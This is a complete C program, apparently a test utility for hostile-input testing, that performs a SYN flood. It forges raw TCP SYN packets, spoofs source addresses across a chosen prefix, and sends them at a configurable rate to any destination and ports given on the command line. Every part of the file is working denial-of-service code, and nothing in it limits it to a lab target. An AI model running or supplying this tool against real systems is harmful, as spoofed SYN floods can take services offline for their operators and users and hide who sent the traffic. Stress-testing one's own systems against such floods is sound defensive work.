/* A SYN flood for the hostile-input tests: COUNT TCP SYNs to DST, spread
 * over the given destination ports, each from a distinct (source address,
 * source port) taken from SRC_PREFIX, through a raw IPv4 socket (root).
 * Prints "sent N syns in S s (R/s)". Usage:
 *   synflood DST PORT[,PORT...] COUNT SRC_PREFIX [RATE]
 * RATE: SYNs per second at most (0 or absent: as fast as possible). */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static uint16_t checksum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)p[0] << 8 | p[1];
	if (len)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	struct in_addr dst, base;
	uint16_t ports[16];
	size_t nports = 0;
	unsigned prefix_len;
	char pfx[64], *slash, *save = NULL;

	if (argc < 5) {
		fprintf(stderr, "usage: synflood DST PORT[,PORT...] COUNT SRC_PREFIX [RATE]\n");
		return 2;
	}
	unsigned long count = strtoul(argv[3], NULL, 10);
	double rate = argc > 5 ? atof(argv[5]) : 0;
	snprintf(pfx, sizeof(pfx), "%s", argv[4]);
	if (inet_pton(AF_INET, argv[1], &dst) != 1 || !(slash = strchr(pfx, '/'))) {
		fprintf(stderr, "synflood: bad address or prefix\n");
		return 2;
	}
	*slash = 0;
	prefix_len = (unsigned)atoi(slash + 1);
	if (inet_pton(AF_INET, pfx, &base) != 1 || prefix_len < 8 || prefix_len > 30) {
		fprintf(stderr, "synflood: bad prefix %s\n", argv[4]);
		return 2;
	}
	for (char *p = strtok_r(argv[2], ",", &save); p && nports < 16; p = strtok_r(NULL, ",", &save))
		ports[nports++] = (uint16_t)atoi(p);
	if (!nports)
		return 2;

	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: raw socket");
		return 1;
	}
	int sndbuf = 4 << 20;
	setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &sndbuf, sizeof(sndbuf));

	uint32_t hosts = (1u << (32 - prefix_len)) - 2;
	uint32_t net = ntohl(base.s_addr) & ~((1u << (32 - prefix_len)) - 1);
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = dst };
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} __attribute__((packed)) pkt;
	unsigned long sent = 0, failed = 0;
	double start = now();

	for (unsigned long i = 0; i < count; i++) {
		/* Distinct (address, port) per SYN: addresses first, then ports. */
		uint32_t src = net + 1 + (uint32_t)(i % hosts);
		uint16_t sport = (uint16_t)(1024 + (i / hosts) % 64000);
		memset(&pkt, 0, sizeof(pkt));
		pkt.ip.version = 4;
		pkt.ip.ihl = 5;
		pkt.ip.ttl = 64;
		pkt.ip.protocol = IPPROTO_TCP;
		pkt.ip.tot_len = htons(sizeof(pkt));
		pkt.ip.id = htons((uint16_t)i);
		pkt.ip.saddr = htonl(src);
		pkt.ip.daddr = dst.s_addr;
		pkt.ip.check = checksum(&pkt.ip, sizeof(pkt.ip), 0);
		pkt.tcp.source = htons(sport);
		pkt.tcp.dest = htons(ports[i % nports]);
		pkt.tcp.seq = htonl((uint32_t)i * 2654435761u);
		pkt.tcp.doff = 5;
		pkt.tcp.syn = 1;
		pkt.tcp.window = htons(64240);
		struct {
			uint32_t s, d;
			uint8_t zero, proto;
			uint16_t len;
		} __attribute__((packed)) pseudo = { pkt.ip.saddr, pkt.ip.daddr, 0, IPPROTO_TCP,
						      htons(sizeof(pkt.tcp)) };
		uint32_t sum = 0;
		const uint8_t *pp = (const uint8_t *)&pseudo;
		for (size_t k = 0; k < sizeof(pseudo); k += 2)
			sum += (uint32_t)pp[k] << 8 | pp[k + 1];
		pkt.tcp.check = checksum(&pkt.tcp, sizeof(pkt.tcp), sum);
		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("synflood: sendto");
				return 1;
			}
			failed++;
		} else {
			sent++;
		}
		if (rate > 0 && (i & 255) == 255) {
			double ahead = (double)(i + 1) / rate - (now() - start);
			if (ahead > 0)
				usleep((useconds_t)(ahead * 1e6));
		}
	}
	double secs = now() - start;
	printf("sent %lu syns in %.2f s (%.0f/s), %lu refused by the socket\n", sent, secs,
	       secs > 0 ? sent / secs : 0.0, failed);
	close(fd);
	return 0;
}
